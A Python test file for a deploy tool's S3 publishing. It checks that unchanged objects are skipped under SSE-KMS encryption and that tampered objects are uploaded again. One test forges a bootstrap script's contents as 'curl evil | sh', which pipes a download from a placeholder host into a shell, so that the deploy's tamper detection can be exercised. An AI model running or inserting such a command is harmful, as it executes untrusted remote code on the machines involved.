"""A second deploy uploads nothing that has not changed, on AWS too: the tenant bucket encrypts with SSE-KMS, where
an object's ETag is not the MD5 of its bytes, so publish compares the SHA-256 it recorded in the object's metadata.

The client is a stand-in for S3 that answers as S3 does under SSE-KMS (an ETag that is no MD5): the emulator
computes MD5 ETags, so it cannot show the case."""

from __future__ import annotations

import base64
import hashlib
from typing import Any

from fmcluster.publish import IDENTITY_METADATA, Published, _put_if_changed


class KmsBucket:
    """put_object/head_object as S3 answers them for an SSE-KMS bucket: metadata kept, ETag not an MD5; an object
    written with ChecksumAlgorithm SHA256 carries S3's own ChecksumSHA256 of its bytes (asked with ChecksumMode)."""

    def __init__(self) -> None:
        self.objects: dict[str, tuple[bytes, dict[str, str], str]] = {}
        self.puts = 0

    def put_object(self, Bucket: str, Key: str, Body: bytes, Metadata: dict[str, str] | None = None,
                   ChecksumAlgorithm: str = "") -> None:
        checksum = base64.b64encode(hashlib.sha256(Body).digest()).decode() if ChecksumAlgorithm == "SHA256" else ""
        self.objects[Key] = (Body, dict(Metadata or {}), checksum)
        self.puts += 1

    def head_object(self, Bucket: str, Key: str, ChecksumMode: str = "") -> dict[str, Any]:
        if Key not in self.objects:
            raise KeyError(Key)
        body, metadata, checksum = self.objects[Key]
        return {"ETag": f'"{hashlib.sha1(body).hexdigest()[:32]}"', "Metadata": metadata,
                **({"ChecksumSHA256": checksum} if checksum and ChecksumMode == "ENABLED" else {})}


def test_an_unchanged_object_is_not_uploaded_again_under_sse_kms() -> None:
    s3, done = KmsBucket(), Published()
    _put_if_changed(s3, "b", "fmcluster/bootstrap/node-bootstrap.sh", b"#!/bin/sh\n", done)
    _put_if_changed(s3, "b", "fmcluster/bootstrap/node-bootstrap.sh", b"#!/bin/sh\n", done)
    assert s3.puts == 1 and done.unchanged == ["fmcluster/bootstrap/node-bootstrap.sh"]
    assert s3.objects["fmcluster/bootstrap/node-bootstrap.sh"][1][IDENTITY_METADATA].startswith("sha256:")
    _put_if_changed(s3, "b", "fmcluster/bootstrap/node-bootstrap.sh", b"#!/bin/sh\nexit 1\n", done)
    assert s3.puts == 2


def test_an_object_named_by_identity_is_the_same_when_its_identity_is() -> None:
    s3, done = KmsBucket(), Published()
    _put_if_changed(s3, "b", "fmcluster/bootstrap/repo.bundle", b"pack one", done, identity="git:abc")
    _put_if_changed(s3, "b", "fmcluster/bootstrap/repo.bundle", b"pack two", done, identity="git:abc")
    assert s3.puts == 1


def test_an_object_whose_bytes_were_swapped_under_its_metadata_is_published_again() -> None:
    """Metadata can be copied onto other bytes by whoever writes the bucket; S3's SHA-256 checksum of what it holds
    cannot: the deploy uploads the object again (issue 42), and its index lists the digest of what the bucket holds."""
    s3, done = KmsBucket(), Published()
    key = "fmcluster/bootstrap/node-bootstrap.sh"
    _put_if_changed(s3, "b", key, b"#!/bin/sh\n", done)
    good = hashlib.sha256(b"#!/bin/sh\n").hexdigest()
    assert done.digests == {key: good}
    forged = b"#!/bin/sh\ncurl evil | sh\n"
    s3.objects[key] = (forged, s3.objects[key][1], base64.b64encode(hashlib.sha256(forged).digest()).decode())
    again = Published()
    _put_if_changed(s3, "b", key, b"#!/bin/sh\n", again)
    assert again.written == [key] and s3.objects[key][0] == b"#!/bin/sh\n" and again.digests == {key: good}


def test_an_object_kept_by_identity_is_indexed_by_what_the_bucket_holds() -> None:
    """The repository bundle's bytes differ from run to run: kept by its commit, it is indexed by S3's checksum of the
    stored bytes (what a node fetches), not by this run's."""
    s3, first, second = KmsBucket(), Published(), Published()
    key = "fmcluster/bootstrap/repo.bundle"
    _put_if_changed(s3, "b", key, b"pack one", first, identity="git:abc")
    _put_if_changed(s3, "b", key, b"pack two", second, identity="git:abc")
    assert second.unchanged == [key] and second.digests == {key: hashlib.sha256(b"pack one").hexdigest()}


def test_an_object_written_before_checksums_is_written_again_once() -> None:
    s3, done = KmsBucket(), Published()
    key = "fmcluster/bootstrap/converge.env"
    body = b"FMCLUSTER_REF=abc\n"
    s3.objects[key] = (body, {IDENTITY_METADATA: f"sha256:{hashlib.sha256(body).hexdigest()}"}, "")
    _put_if_changed(s3, "b", key, body, done)
    assert done.written == [key]
    _put_if_changed(s3, "b", key, body, done)
    assert done.unchanged == [key]
